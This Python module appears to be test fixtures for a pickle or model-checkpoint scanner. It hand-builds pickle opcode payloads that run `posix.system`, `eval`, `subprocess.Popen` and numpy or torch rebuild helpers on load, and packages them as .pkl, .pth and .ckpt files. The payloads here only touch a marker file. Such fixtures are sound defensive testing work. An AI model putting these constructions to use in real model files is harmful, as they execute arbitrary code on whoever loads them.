"""Files that would run code, each written operation by operation."""

import io
import pickle
import struct
import zipfile
from pathlib import Path

# Format of torch.save before torch 1.6: these three pickles come before the content.
OLD_TORCH_HEAD = b"".join(
    pickle.dumps(value, protocol=2)
    for value in (0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True})
)


class Touch:
    """A class that does something where it is made."""

    def __new__(cls, path):
        Path(path).touch()
        return super().__new__(cls)


def text(value):
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def named(name):
    module, _, attribute = name.rpartition(".")
    return b"c" + module.encode() + b"\n" + attribute.encode() + b"\n"


def called(name, *arguments):
    """Call what a name stands for, with arguments that are operations."""
    return named(name) + b"(" + b"".join(arguments) + b"tR"


def bombs(marker):
    """Return operations that make a file `marker` where a pickle is trusted, by what they use."""
    command = text(f"touch {marker}")
    code = text(f"open({str(marker)!r}, 'w')")
    system, touch = named("posix.system"), called("posix.system", command)
    namespace = named("argparse.Namespace") + b")R"
    nested = io.BytesIO()
    nested.write(OLD_TORCH_HEAD + b"\x80\x02" + touch + b"." + b"\x80\x02].")
    return {
        "REDUCE": touch,
        "STACK_GLOBAL": text("posix") + text("system") + b"\x93" + command + b"\x85R",
        "INST": b"(" + command + b"iposix\nsystem\n",
        "OBJ": b"(" + system + command + b"o",
        "NEWOBJ": named("malicious_files.Touch") + text(str(marker)) + b"\x85\x81",
        "NEWOBJ_EX": named("malicious_files.Touch") + text(str(marker)) + b"\x85}\x92",
        "BUILD": namespace + b"}" + text("__setstate__") + system + b"sb" + command + b"b",
        "persistent id": b"(" + text("module") + touch + text("a") + text("b") + b"tQ",
        "persistent id as text": touch + b"0Pstorage\n",
        "storage": b"(" + text("storage") + touch + text("0") + text("cpu") + b"K\x01tQ",
        "eval": called("builtins.eval", code),
        "eval of Python 2": b"\x80\x02" + called("__builtin__.eval", code) + b"\x80\x04",
        "getattr": called(
            "builtins.getattr", called("builtins.__import__", text("os")), text("system")
        )
        + command
        + b"\x85R",
        "numpy": called("numpy.testing._private.utils.runstring", code, b"}"),
        "torch.load": called(
            "torch.storage._load_from_bytes",
            b"B" + struct.pack("<I", len(nested.getvalue())) + nested.getvalue(),
        ),
        "ordered dict": called("collections.OrderedDict", b"](" + text("a") + touch + b"\x86e"),
        "key": b"}" + touch + b"K\x01s",
        "array of objects": called(
            "numpy._core.multiarray._reconstruct", named("numpy.ndarray"), b"K\x00\x85", text("b")
        )
        + b"(K\x01K\x01\x85"
        + called("numpy.dtype", text("O8"), b"\x89", b"\x88")
        + b"\x89]("
        + touch
        + b"etb",
        "rebuild of a type": called(
            "torch._tensor._rebuild_from_type_v2",
            system,
            named("torch.Tensor"),
            command + b"\x85",
            b"N",
        ),
        "reconstructor": called(
            "copyreg._reconstructor", named("subprocess.Popen"), named("builtins.object"), b"N"
        )
        + touch
        + b"b",
    }


def wrapped(content):
    """Return the operations of a checkpoint's dict, with `content` in it."""
    return (
        b"\x80\x04("
        + text("extra")
        + content
        + text("state_dict")
        + b"}"
        + text("epoch")
        + b"K\x01d."
    )


def forms(operations):
    """Return files of each format whose content is these operations, by suffix."""
    head, keys = OLD_TORCH_HEAD, pickle.dumps([], protocol=2)
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        for name, data in (("data.pkl", operations), ("version", b"3\n"), ("byteorder", b"little")):
            file.writestr(f"archive/{name}", data)
    return {"a.pkl": operations, "b.pth": head + operations + keys, "c.ckpt": archive.getvalue()}
